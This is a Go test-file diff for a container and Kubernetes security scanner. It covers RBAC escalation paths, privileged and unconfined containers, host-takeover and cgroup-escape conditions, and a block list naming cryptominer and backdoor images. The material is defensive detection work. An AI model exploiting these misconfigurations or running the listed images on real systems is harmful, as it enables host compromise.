@@ -1,8 +1,38 @@
 package analyzer
 
 import (
+	"context"
+	"crypto/tls"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"math/rand"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"reflect"
+	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
+	"time"
+
+	"github.com/docker/docker/api/types"
+	containertypes "github.com/docker/docker/api/types/container"
+	imagetypes "github.com/docker/docker/api/types/image"
+	"github.com/docker/go-connections/nat"
+	_image "github.com/kvesta/vesta/pkg/inspector"
+	admissionv1 "k8s.io/api/admissionregistration/v1"
+	appsv1 "k8s.io/api/apps/v1"
+	v1 "k8s.io/api/core/v1"
+	policyv1 "k8s.io/api/policy/v1"
+	rv1 "k8s.io/api/rbac/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+	"k8s.io/apimachinery/pkg/util/intstr"
+	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 )
 
 func TestSortSeverity(t *testing.T) {
@@ -69,3 +99,3018 @@ func TestWeakPassword(t *testing.T) {
 	}
 
 }
+
+func TestFingerprint(t *testing.T) {
+	privileged := &threat{Param: "sidecar name: nginx | Privileged", Value: "true",
+		Type: "Sidecar Privileged", Severity: "critical"}
+	resource := &threat{Param: "sidecar name: nginx | Resource", Value: "cpu",
+		Type: "Sidecar Resource", Severity: "low"}
+
+	type args struct {
+		kind    string
+		name    string
+		threats []*threat
+	}
+
+	tests := []struct {
+		name string
+		a    args
+		b    args
+		want bool
+	}{
+		{
+			name: "sameReplicas",
+			a:    args{kind: "Deployment", name: "nginx", threats: []*threat{privileged, resource}},
+			b:    args{kind: "Deployment", name: "nginx", threats: []*threat{resource, privileged}},
+			want: true,
+		},
+		{
+			name: "differentWorkload",
+			a:    args{kind: "Deployment", name: "nginx", threats: []*threat{privileged}},
+			b:    args{kind: "Deployment", name: "web", threats: []*threat{privileged}},
+			want: false,
+		},
+		{
+			name: "differentThreats",
+			a:    args{kind: "Deployment", name: "nginx", threats: []*threat{privileged}},
+			b:    args{kind: "Deployment", name: "nginx", threats: []*threat{privileged, resource}},
+			want: false,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			fa := getFingerprint("default", tt.a.kind, tt.a.name, tt.a.threats)
+			fb := getFingerprint("default", tt.b.kind, tt.b.name, tt.b.threats)
+			if got := fa == fb; got != tt.want {
+				t.Errorf("getFingerprint() equal = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCISControls(t *testing.T) {
+	tests := []struct {
+		name string
+		tp   string
+		want []string
+	}{
+		{
+			name: "privileged",
+			tp:   "Sidecar Privileged",
+			want: []string{"5.2.2"},
+		},
+		{
+			name: "serviceAccountToken",
+			tp:   "kube-api-access-x7k2p",
+			want: []string{"5.1.6"},
+		},
+		{
+			name: "noMapping",
+			tp:   "Sidecar Probe",
+			want: []string{},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := getCISControls(tt.tp)
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("getCISControls() got = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestAnalyzeImagesOrder(t *testing.T) {
+	images := []*_image.ImageInfo{}
+	want := []string{}
+
+	for i := 0; i < 8; i++ {
+		id := fmt.Sprintf("sha256:%d", i)
+		images = append(images, &_image.ImageInfo{Summary: types.ImageSummary{ID: id}})
+		want = append(want, id)
+	}
+
+	// The earlier images finish later
+	tlist := analyzeImages(images, 4, func(img *_image.ImageInfo) []*threat {
+		for i, im := range images {
+			if im == img {
+				time.Sleep(time.Duration(len(images)-i) * time.Millisecond)
+			}
+		}
+
+		return []*threat{{Value: img.Summary.ID}}
+	})
+
+	got := []string{}
+	for _, th := range tlist {
+		got = append(got, th.Value)
+	}
+
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("analyzeImages() got = %v, want %v", got, want)
+	}
+}
+
+func TestValidateKinds(t *testing.T) {
+	tests := []struct {
+		name    string
+		kinds   []string
+		wantErr bool
+	}{
+		{
+			name:  "knownKinds",
+			kinds: []string{"pod", "DaemonSet", "cronjob"},
+		},
+		{
+			name:    "unknownKind",
+			kinds:   []string{"pod", "ingress"},
+			wantErr: true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ctx := context.WithValue(context.Background(), "kinds", tt.kinds)
+			if err := validateKinds(ctx); (err != nil) != tt.wantErr {
+				t.Errorf("validateKinds() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestAggregatedAdminPaths(t *testing.T) {
+	selector := func(label string) *rv1.AggregationRule {
+		return &rv1.AggregationRule{ClusterRoleSelectors: []metav1.LabelSelector{
+			{MatchLabels: map[string]string{label: "true"}},
+		}}
+	}
+
+	roles := []rv1.ClusterRole{
+		{
+			ObjectMeta:      metav1.ObjectMeta{Name: "monitoring"},
+			AggregationRule: selector("aggregate-to-monitoring"),
+		},
+		{
+			ObjectMeta:      metav1.ObjectMeta{Name: "monitoring-extra", Labels: map[string]string{"aggregate-to-monitoring": "true"}},
+			AggregationRule: selector("aggregate-to-extra"),
+		},
+		{
+			ObjectMeta: metav1.ObjectMeta{Name: "endpoints-reader", Labels: map[string]string{"aggregate-to-monitoring": "true"}},
+			Rules:      []rv1.PolicyRule{{Verbs: []string{"get", "list"}, Resources: []string{"endpoints"}}},
+		},
+		{
+			ObjectMeta: metav1.ObjectMeta{Name: "everything", Labels: map[string]string{"aggregate-to-extra": "true"}},
+			Rules:      []rv1.PolicyRule{{APIGroups: []string{"*"}, Verbs: []string{"*"}, Resources: []string{"*"}}},
+		},
+	}
+
+	ar := &aggregatedRole{sources: map[string][]rv1.PolicyRule{}}
+	resolveAggregatedRules(roles[0], roles, map[string]bool{"monitoring": true}, "monitoring", ar)
+
+	if len(ar.rules) != 2 || len(ar.sources) != 2 {
+		t.Fatalf("resolveAggregatedRules() got %d rules of %d sources, want 2 of 2", len(ar.rules), len(ar.sources))
+	}
+
+	got := ar.adminPaths(false)
+	want := []string{"monitoring <- monitoring-extra <- everything"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("adminPaths() got = %v, want %v", got, want)
+	}
+}
+
+func TestIsAdminEquivalent(t *testing.T) {
+	rbac := "rbac.authorization.k8s.io"
+
+	tests := []struct {
+		name       string
+		rules      []rv1.PolicyRule
+		cluster    bool
+		namespaced bool
+	}{
+		{
+			name: "wildcard",
+			rules: []rv1.PolicyRule{
+				{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}},
+			},
+			cluster: true, namespaced: true,
+		},
+		{
+			// Users and groups are impersonated as the resources of core group
+			name: "wildcardOfCoreGroup",
+			rules: []rv1.PolicyRule{
+				{APIGroups: []string{""}, Resources: []string{"*"}, Verbs: []string{"*"}},
+			},
+			cluster: true,
+		},
+		{
+			// Permissions of the built-in edit and admin
+			name: "edit",
+			rules: []rv1.PolicyRule{
+				{APIGroups: []string{""}, Resources: []string{"serviceaccounts"}, Verbs: []string{"impersonate"}},
+				{APIGroups: []string{rbac}, Resources: []string{"roles", "rolebindings"}, Verbs: []string{"create", "bind", "escalate"}},
+			},
+		},
+		{
+			name: "impersonateGroups",
+			rules: []rv1.PolicyRule{
+				{APIGroups: []string{""}, Resources: []string{"groups"}, Verbs: []string{"impersonate"}},
+			},
+			cluster: true,
+		},
+		{
+			name: "escalateAcrossRoles",
+			rules: []rv1.PolicyRule{
+				{APIGroups: []string{rbac}, Resources: []string{"clusterroles"}, Verbs: []string{"escalate"}},
+				{APIGroups: []string{rbac}, Resources: []string{"clusterrolebindings"}, Verbs: []string{"create"}},
+			},
+			cluster: true,
+		},
+		{
+			name: "escalateOnly",
+			rules: []rv1.PolicyRule{
+				{APIGroups: []string{rbac}, Resources: []string{"clusterroles"}, Verbs: []string{"escalate", "bind"}},
+			},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := isAdminEquivalent(tt.rules, false); got != tt.cluster {
+				t.Errorf("isAdminEquivalent() of cluster = %t, want %t", got, tt.cluster)
+			}
+			if got := isAdminEquivalent(tt.rules, true); got != tt.namespaced {
+				t.Errorf("isAdminEquivalent() of namespace = %t, want %t", got, tt.namespaced)
+			}
+		})
+	}
+}
+
+func TestCorrelateUnconfined(t *testing.T) {
+	privileged := true
+
+	tests := []struct {
+		name         string
+		privileged   bool
+		annotations  map[string]string
+		seccomp      v1.SeccompProfileType
+		wantSeverity string
+		wantRefer    bool
+	}{
+		{
+			name:         "privilegedAndUnconfined",
+			privileged:   true,
+			annotations:  map[string]string{apparmorAnnotationPrefix + "nginx": "unconfined"},
+			seccomp:      v1.SeccompProfileTypeRuntimeDefault,
+			wantSeverity: "critical",
+			wantRefer:    true,
+		},
+		{
+			name:         "privilegedAndSeccompUnconfined",
+			privileged:   true,
+			seccomp:      v1.SeccompProfileTypeUnconfined,
+			wantSeverity: "critical",
+			wantRefer:    true,
+		},
+		{
+			name:         "unconfinedOnly",
+			annotations:  map[string]string{apparmorAnnotationPrefix + "nginx": "unconfined"},
+			seccomp:      v1.SeccompProfileTypeRuntimeDefault,
+			wantSeverity: "medium",
+		},
+		{
+			name:         "privilegedWithoutSeccompProfile",
+			privileged:   true,
+			wantSeverity: "low",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			container := v1.Container{Name: "nginx", SecurityContext: &v1.SecurityContext{}}
+			if tt.privileged {
+				container.SecurityContext.Privileged = &privileged
+			}
+
+			_, tlist := checkPodPrivileged(container)
+			podSpec := v1.PodSpec{}
+			if tt.seccomp != "" {
+				podSpec.SecurityContext = &v1.PodSecurityContext{SeccompProfile: &v1.SeccompProfile{Type: tt.seccomp}}
+			}
+
+			_, unconfined := checkPodConfinement(container, podSpec, tt.annotations)
+			tlist = append(tlist, unconfined...)
+
+			correlateUnconfined(tlist)
+
+			if len(unconfined) != 1 || unconfined[0].Severity != tt.wantSeverity {
+				t.Fatalf("correlateUnconfined() got = %v, want severity %v", unconfined, tt.wantSeverity)
+			}
+
+			for _, th := range tlist {
+				if th.Type == "capabilities.add" {
+					continue
+				}
+
+				isReferenced := strings.Contains(th.Describe, "refer to")
+				if isReferenced != tt.wantRefer {
+					t.Errorf("correlateUnconfined() describe = %q, referenced %v", th.Describe, tt.wantRefer)
+				}
+			}
+		})
+	}
+}
+
+func TestSeccompProfileType(t *testing.T) {
+	profile := func(tp v1.SeccompProfileType) *v1.SeccompProfile {
+		return &v1.SeccompProfile{Type: tp}
+	}
+
+	tests := []struct {
+		name        string
+		pod         *v1.SeccompProfile
+		container   *v1.SeccompProfile
+		annotations map[string]string
+		want        v1.SeccompProfileType
+	}{
+		{
+			name: "unset",
+			want: "",
+		},
+		{
+			name: "podRuntimeDefault",
+			pod:  profile(v1.SeccompProfileTypeRuntimeDefault),
+			want: v1.SeccompProfileTypeRuntimeDefault,
+		},
+		{
+			name:      "containerOverridesPod",
+			pod:       profile(v1.SeccompProfileTypeRuntimeDefault),
+			container: profile(v1.SeccompProfileTypeUnconfined),
+			want:      v1.SeccompProfileTypeUnconfined,
+		},
+		{
+			name:        "podAnnotation",
+			annotations: map[string]string{seccompPodAnnotationKey: "localhost/profile.json"},
+			want:        v1.SeccompProfileTypeLocalhost,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			container := v1.Container{Name: "nginx", SecurityContext: &v1.SecurityContext{SeccompProfile: tt.container}}
+			podSpec := v1.PodSpec{SecurityContext: &v1.PodSecurityContext{SeccompProfile: tt.pod}}
+
+			if got := getSeccompProfileType(container, podSpec, tt.annotations); got != tt.want {
+				t.Errorf("getSeccompProfileType() got = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestPodCapabilities(t *testing.T) {
+	tests := []struct {
+		name         string
+		privileged   bool
+		capabilities *v1.Capabilities
+		want         []string
+	}{
+		{
+			name:         "dropAll",
+			capabilities: &v1.Capabilities{Drop: []v1.Capability{"ALL"}},
+			want:         []string{},
+		},
+		{
+			name:         "dropSome",
+			capabilities: &v1.Capabilities{Drop: []v1.Capability{"NET_RAW"}},
+			want:         []string{"capabilities.drop"},
+		},
+		{
+			name:         "privileged",
+			privileged:   true,
+			capabilities: &v1.Capabilities{Drop: []v1.Capability{"ALL"}},
+			want:         []string{"capabilities.add", "Sidecar Privileged", "capabilities.drop"},
+		},
+		{
+			name: "dangerAdd",
+			capabilities: &v1.Capabilities{Drop: []v1.Capability{"ALL"},
+				Add: []v1.Capability{"CAP_NET_ADMIN"}},
+			want: []string{"capabilities.add"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			container := v1.Container{Name: "nginx",
+				SecurityContext: &v1.SecurityContext{Capabilities: tt.capabilities, Privileged: &tt.privileged}}
+
+			_, added := checkPodPrivileged(container)
+			_, dropped := checkPodCapabilitiesDrop(container)
+
+			got := []string{}
+			for _, th := range append(added, dropped...) {
+				got = append(got, th.Type)
+			}
+
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("capabilities got = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckPodNetRaw(t *testing.T) {
+	privileged := true
+
+	tests := []struct {
+		name            string
+		securityContext *v1.SecurityContext
+		wantType        string
+		wantDescribe    string
+	}{
+		{name: "runtimeDefault", wantType: "capabilities.default", wantDescribe: "granted by the runtime by default"},
+		{
+			name:            "added",
+			securityContext: &v1.SecurityContext{Capabilities: &v1.Capabilities{Add: []v1.Capability{"NET_RAW"}}},
+			wantType:        "capabilities.add",
+			wantDescribe:    "added explicitly",
+		},
+		{
+			name:            "privileged",
+			securityContext: &v1.SecurityContext{Privileged: &privileged},
+			wantType:        "Sidecar Privileged",
+			wantDescribe:    "is privileged",
+		},
+		{
+			name:            "dropped",
+			securityContext: &v1.SecurityContext{Capabilities: &v1.Capabilities{Drop: []v1.Capability{"ALL"}}},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			container := v1.Container{Name: "nginx", SecurityContext: tt.securityContext}
+
+			ok, tlist := checkPodNetRaw(container, true)
+			if tt.wantType == "" {
+				if ok {
+					t.Errorf("checkPodNetRaw() = %v, want none", tlist)
+				}
+				return
+			}
+
+			if !ok || len(tlist) != 1 {
+				t.Fatalf("checkPodNetRaw() = %v, want one threat", tlist)
+			}
+
+			if tlist[0].Type != tt.wantType || !strings.Contains(tlist[0].Describe, tt.wantDescribe) {
+				t.Errorf("checkPodNetRaw() = %s %q, want %s %q", tlist[0].Type, tlist[0].Describe, tt.wantType, tt.wantDescribe)
+			}
+		})
+	}
+
+	if ok, _ := checkPodNetRaw(v1.Container{Name: "nginx"}, false); ok {
+		t.Errorf("checkPodNetRaw() found the threat on the kernel not vulnerable")
+	}
+}
+
+func TestExplainKubernetes(t *testing.T) {
+	ctx := context.WithValue(context.Background(), "nameSpace", "standard")
+	ctx = context.WithValue(ctx, "disable", []string{"checkCerts"})
+	ctx = context.WithValue(ctx, "kinds", []string{"pod"})
+
+	want := map[string]bool{
+		"dockershimCheck": true,
+		"kernelCheck":     false,
+		"checkPod":        true,
+		"checkDaemonSet":  false,
+		"checkCerts":      false,
+		"checkCNI":        true,
+	}
+
+	for _, plan := range ExplainKubernetes(ctx, "v1.23.4") {
+		if run, ok := want[plan.Name]; ok && run != plan.Run {
+			t.Errorf("ExplainKubernetes() %s run = %v, want %v (%s)", plan.Name, plan.Run, run, plan.Reason)
+		}
+	}
+}
+
+func TestMatchBlocklist(t *testing.T) {
+	blocklist := []*blockedImage{
+		{pattern: "docker.io/miner/xmrig", reason: "cryptominer"},
+		{pattern: "evil:1.0", reason: "backdoor"},
+		{pattern: "sha256:4b9a3a2c", reason: "cryptominer"},
+	}
+
+	tests := []struct {
+		name  string
+		image string
+		want  bool
+	}{
+		{name: "repository", image: "docker.io/miner/xmrig:latest", want: true},
+		{name: "reference", image: "evil:1.0", want: true},
+		{name: "otherTag", image: "evil:2.0", want: false},
+		{name: "digest", image: "docker-pullable://nginx@sha256:4b9a3a2c", want: true},
+		{name: "registryPort", image: "localhost:5000/nginx", want: false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, got := matchBlocklist(tt.image, blocklist); got != tt.want {
+				t.Errorf("matchBlocklist() got = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestAddTiming(t *testing.T) {
+	timings := []*CheckTiming{}
+	timings = addTiming(timings, "checkPod", 2*time.Second)
+	timings = addTiming(timings, "checkSecret", 300*time.Millisecond)
+	timings = addTiming(timings, "checkPod", 2200*time.Millisecond)
+
+	got := []string{}
+	for _, tm := range timings {
+		got = append(got, tm.String())
+	}
+
+	want := []string{"checkPod: 4.2s", "checkSecret: 0.3s"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("addTiming() = %v, want %v", got, want)
+	}
+}
+
+func TestCheckDevices(t *testing.T) {
+	config := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{
+			HostConfig: &containertypes.HostConfig{},
+		},
+	}
+	config.HostConfig.Devices = []containertypes.DeviceMapping{
+		{PathOnHost: "/dev/mem", PathInContainer: "/dev/mem", CgroupPermissions: "rwm"},
+		{PathOnHost: "/dev/sda1", PathInContainer: "/dev/sda1", CgroupPermissions: "r"},
+		{PathOnHost: "/dev/nvidia0", PathInContainer: "/dev/nvidia0", CgroupPermissions: "rwm"},
+		{PathOnHost: "/dev/snd", PathInContainer: "/dev/snd", CgroupPermissions: "rwm"},
+		{PathOnHost: "/dev/ttyUSB0", PathInContainer: "/dev/ttyUSB0", CgroupPermissions: "rw"},
+	}
+
+	vuln, tlist := checkDevices(config)
+	if !vuln {
+		t.Fatalf("checkDevices() found nothing")
+	}
+
+	got := []string{}
+	for _, th := range tlist {
+		got = append(got, th.Severity)
+	}
+
+	want := []string{"critical", "critical", "medium", "warning", "low"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("checkDevices() severities = %v, want %v", got, want)
+	}
+
+	if tlist[0].Value != "/dev/mem:/dev/mem (rwm)" {
+		t.Errorf("checkDevices() value = %s", tlist[0].Value)
+	}
+}
+
+func TestHoldsCapability(t *testing.T) {
+	tests := []struct {
+		name       string
+		adds       []string
+		drops      []string
+		privileged bool
+		want       bool
+		how        string
+	}{
+		{name: "default", want: true, how: "default"},
+		{name: "dropped", drops: []string{"NET_RAW"}, want: false, how: "dropped"},
+		{name: "dropped all", drops: []string{"ALL"}, want: false, how: "dropped"},
+		{name: "added back", adds: []string{"CAP_NET_RAW"}, drops: []string{"ALL"}, want: true, how: "added"},
+		{name: "privileged", drops: []string{"ALL"}, privileged: true, want: true, how: "privileged"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, how := holdsCapability("NET_RAW", tt.adds, tt.drops, tt.privileged)
+			if got != tt.want || how != tt.how {
+				t.Errorf("holdsCapability() = %v, %s, want %v, %s", got, how, tt.want, tt.how)
+			}
+		})
+	}
+}
+
+func TestPodTokenExpiration(t *testing.T) {
+	seconds := func(s int64) *int64 { return &s }
+
+	tests := []struct {
+		name       string
+		expiration *int64
+		want       string
+	}{
+		{name: "bound token", expiration: seconds(3607)},
+		{name: "unset", want: "expirationSeconds: unset"},
+		{name: "one year", expiration: seconds(31536000), want: "expirationSeconds: 31536000 (8760h0m0s)"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			volume := v1.Volume{
+				Name: "token",
+				VolumeSource: v1.VolumeSource{
+					Projected: &v1.ProjectedVolumeSource{
+						Sources: []v1.VolumeProjection{
+							{ServiceAccountToken: &v1.ServiceAccountTokenProjection{
+								Path: "token", ExpirationSeconds: tt.expiration}},
+						},
+					},
+				},
+			}
+
+			vuln, tlist := checkPodTokenExpiration(volume)
+			if vuln != (tt.want != "") {
+				t.Fatalf("checkPodTokenExpiration() = %v, want %v", vuln, tt.want != "")
+			}
+
+			if vuln && tlist[0].Value != tt.want {
+				t.Errorf("checkPodTokenExpiration() value = %s, want %s", tlist[0].Value, tt.want)
+			}
+		})
+	}
+}
+
+func TestProbeTLS(t *testing.T) {
+	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
+	server.TLS = &tls.Config{
+		MinVersion: tls.VersionTLS10,
+		CipherSuites: []uint16{tls.TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256,
+			tls.TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA, tls.TLS_RSA_WITH_AES_128_CBC_SHA256},
+	}
+	server.StartTLS()
+	defer server.Close()
+
+	addr := strings.TrimPrefix(server.URL, "https://")
+	probe, err := probeTLS(addr)
+	if err != nil {
+		t.Fatalf("probeTLS() error = %v", err)
+	}
+
+	if len(probe.LegacyVersions) != 2 {
+		t.Errorf("probeTLS() legacy versions = %v, want TLS 1.0 and TLS 1.1", probe.LegacyVersions)
+	}
+
+	if probe.WeakCipher != tls.TLS_RSA_WITH_AES_128_CBC_SHA256 {
+		t.Errorf("probeTLS() weak cipher = %s", tls.CipherSuiteName(probe.WeakCipher))
+	}
+
+	if tlist := getTLSThreats("API server", addr, probe); len(tlist) != 2 {
+		t.Errorf("getTLSThreats() got %d threats, want 2", len(tlist))
+	}
+}
+
+func TestRemapSeverity(t *testing.T) {
+	ctx := context.WithValue(context.Background(), "severity",
+		map[string]string{"checkEnvPassword": "Critical", "checkPid": "unknown"})
+
+	threats := []*threat{{Severity: "medium"}, {Severity: "high"}}
+	remapSeverity(ctx, "checkEnvPassword", threats)
+	for _, th := range threats {
+		if th.Severity != "critical" {
+			t.Errorf("remapSeverity() = %s, want critical", th.Severity)
+		}
+	}
+
+	threats = []*threat{{Severity: "high"}}
+	remapSeverity(ctx, "checkPid", threats)
+	if threats[0].Severity != "high" {
+		t.Errorf("remapSeverity() with unknown severity = %s, want high", threats[0].Severity)
+	}
+}
+
+func TestThreatCollector(t *testing.T) {
+	tc := &threatCollector{}
+
+	var wg sync.WaitGroup
+	var drained int64
+
+	for w := 0; w < 20; w++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+
+			for i := 0; i < 100; i++ {
+				tc.Add(&threat{Severity: "low"})
+			}
+		}()
+	}
+
+	// Drain concurrently with the writers, no threat should be lost or repeated
+	for w := 0; w < 4; w++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+
+			for i := 0; i < 50; i++ {
+				atomic.AddInt64(&drained, int64(len(tc.Drain())))
+			}
+		}()
+	}
+
+	wg.Wait()
+	drained += int64(len(tc.Drain()))
+
+	if drained != 2000 {
+		t.Errorf("threatCollector drained %d threats, want 2000", drained)
+	}
+
+	if got := tc.Drain(); got == nil || len(got) != 0 {
+		t.Errorf("Drain() of empty collector = %v, want empty slice", got)
+	}
+}
+
+func TestCheckWebhook(t *testing.T) {
+	ignore := admissionv1.Ignore
+	rule := func(resources ...string) admissionv1.RuleWithOperations {
+		return admissionv1.RuleWithOperations{
+			Operations: []admissionv1.OperationType{admissionv1.Create},
+			Rule:       admissionv1.Rule{APIGroups: []string{""}, Resources: resources},
+		}
+	}
+
+	tests := []struct {
+		name string
+		wh   webhookSpec
+		want []string
+	}{
+		{
+			name: "mutating pods cluster-wide",
+			wh: webhookSpec{kind: "MutatingWebhookConfiguration", config: "injector", name: "inject.example.com",
+				rules: []admissionv1.RuleWithOperations{rule("pods")}},
+			want: []string{"resources: pods | operations: CREATE"},
+		},
+		{
+			name: "mutating pods with selector",
+			wh: webhookSpec{kind: "MutatingWebhookConfiguration", config: "injector", name: "inject.example.com",
+				rules:             []admissionv1.RuleWithOperations{rule("pods")},
+				namespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"injection": "enabled"}}},
+		},
+		{
+			name: "policy fails open",
+			wh: webhookSpec{kind: "ValidatingWebhookConfiguration", config: "gatekeeper-validating-webhook-configuration",
+				name: "validation.gatekeeper.sh", failurePolicy: &ignore,
+				rules: []admissionv1.RuleWithOperations{{Operations: []admissionv1.OperationType{admissionv1.Create},
+					Rule: admissionv1.Rule{APIGroups: []string{"*"}, Resources: []string{"*"}}}}},
+			want: []string{"resources: * | operations: CREATE", "failurePolicy: Ignore"},
+		},
+		{
+			name: "secrets",
+			wh: webhookSpec{kind: "ValidatingWebhookConfiguration", config: "audit", name: "audit.example.com",
+				rules: []admissionv1.RuleWithOperations{rule("secrets")}},
+			want: []string{"resources: secrets | operations: CREATE"},
+		},
+		{
+			name: "pods of another group",
+			wh: webhookSpec{kind: "MutatingWebhookConfiguration", config: "metrics", name: "metrics.example.com",
+				rules: []admissionv1.RuleWithOperations{{Operations: []admissionv1.OperationType{admissionv1.Create},
+					Rule: admissionv1.Rule{APIGroups: []string{"metrics.k8s.io"}, Resources: []string{"pods"}}}}},
+		},
+		{
+			name: "policy engine fails open",
+			wh: webhookSpec{kind: "MutatingWebhookConfiguration", config: "kyverno-resource-mutating-webhook-cfg",
+				name: "mutate.kyverno.svc", service: &admissionv1.ServiceReference{Namespace: "kyverno", Name: "kyverno-svc"},
+				rules: []admissionv1.RuleWithOperations{rule("configmaps")}, failurePolicy: &ignore},
+			want: []string{"failurePolicy: Ignore"},
+		},
+		{
+			name: "name like a policy engine",
+			wh: webhookSpec{kind: "MutatingWebhookConfiguration", config: "opa-sidecar-injector", name: "inject.example.com",
+				service: &admissionv1.ServiceReference{Namespace: "default", Name: "injector"},
+				rules:   []admissionv1.RuleWithOperations{rule("configmaps")}, failurePolicy: &ignore},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := []string{}
+			for _, th := range checkWebhook(tt.wh) {
+				got = append(got, th.Value)
+			}
+
+			if len(got) != len(tt.want) || (len(got) > 0 && !reflect.DeepEqual(got, tt.want)) {
+				t.Errorf("checkWebhook() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSelectNamespaces(t *testing.T) {
+	names := []string{"default", "team-a", "team-b", "prod", "kube-system"}
+
+	tests := []struct {
+		selection string
+		want      []string
+	}{
+		{selection: "default", want: []string{"default"}},
+		{selection: "team-*", want: []string{"team-a", "team-b"}},
+		{selection: "prod, team-?,prod", want: []string{"prod", "team-a", "team-b"}},
+		{selection: "staging-*", want: []string{}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.selection, func(t *testing.T) {
+			if got := selectNamespaces(tt.selection, names); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("selectNamespaces() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckHostTakeover(t *testing.T) {
+	config := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{
+			HostConfig: &containertypes.HostConfig{Privileged: true},
+		},
+		Mounts: []types.MountPoint{
+			{Source: "/", Destination: "/host"},
+			{Source: "/var/run/docker.sock", Destination: "/var/run/docker.sock"},
+		},
+	}
+
+	threats := []*threat{}
+	for _, fn := range []func(*types.ContainerJSON) (bool, []*threat){checkPrivileged, checkMount, checkHostTakeover} {
+		if ok, tlist := fn(config); ok {
+			threats = append(threats, tlist...)
+		}
+	}
+
+	got := []string{}
+	for _, th := range foldHostTakeover(threats) {
+		got = append(got, fmt.Sprintf("%s %s %s", th.Param, th.Value, th.Severity))
+	}
+
+	want := []string{
+		"Mount /var/run/docker.sock critical",
+		"Host Takeover privileged: true | mount: /:/host critical",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("foldHostTakeover() = %v, want %v", got, want)
+	}
+
+	// Neither the privileged container nor the root mount alone is a takeover
+	config.HostConfig.Privileged = false
+	if ok, _ := checkHostTakeover(config); ok {
+		t.Errorf("checkHostTakeover() found takeover without privileged")
+	}
+}
+
+func TestCachedList(t *testing.T) {
+	fetched := 0
+	fetch := func() (*v1.PodList, error) {
+		fetched++
+		return &v1.PodList{}, nil
+	}
+
+	cache := newListCache()
+	for i := 0; i < 3; i++ {
+		if _, err := cachedList(cache, "pods/default", fetch); err != nil {
+			t.Fatalf("cachedList() error = %v", err)
+		}
+	}
+	if fetched != 1 {
+		t.Errorf("cachedList() fetched %d times, want 1", fetched)
+	}
+
+	// Without the cache of scan, the list is always fetched
+	fetched = 0
+	for i := 0; i < 3; i++ {
+		_, _ = cachedList(nil, "pods/default", fetch)
+	}
+	if fetched != 3 {
+		t.Errorf("cachedList() without cache fetched %d times, want 3", fetched)
+	}
+}
+
+func TestCheckCgroupEscape(t *testing.T) {
+	config := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{
+			HostConfig: &containertypes.HostConfig{CapAdd: []string{"SYS_ADMIN"}},
+		},
+	}
+
+	// Lacking a writable cgroup, the vulnerable kernel is only informational
+	if ok, _ := checkCgroupEscape(config, true); ok {
+		t.Errorf("checkCgroupEscape() found escape without writable cgroup")
+	}
+
+	config.Mounts = []types.MountPoint{{Source: "/sys/fs/cgroup", Destination: "/sys/fs/cgroup", RW: true}}
+
+	ok, tlist := checkCgroupEscape(config, true)
+	if !ok || tlist[0].Severity != "critical" {
+		t.Fatalf("checkCgroupEscape() = %v, want critical finding", ok)
+	}
+
+	if ok, _ := checkCgroupEscape(config, false); ok {
+		t.Errorf("checkCgroupEscape() found escape with patched kernel")
+	}
+
+	config.HostConfig.CapAdd = nil
+	if ok, _ := checkCgroupEscape(config, true); ok {
+		t.Errorf("checkCgroupEscape() found escape without CAP_SYS_ADMIN")
+	}
+}
+
